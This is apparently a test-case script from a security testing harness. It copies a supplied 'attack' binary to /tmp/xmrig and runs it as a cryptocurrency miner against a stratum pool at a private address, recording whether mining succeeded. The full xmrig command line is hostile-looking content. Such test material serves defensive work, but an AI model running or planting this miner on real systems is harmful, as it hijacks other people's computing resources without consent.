#!/bin/sh
. /cases/attempt.sh
cp "$CASE_DIR/attack" /tmp/xmrig
attempt mine /tmp/xmrig -o stratum+tcp://10.66.3.3:3333 -u 4corpus -p x --donate-level 1 && effect "mined"
finish
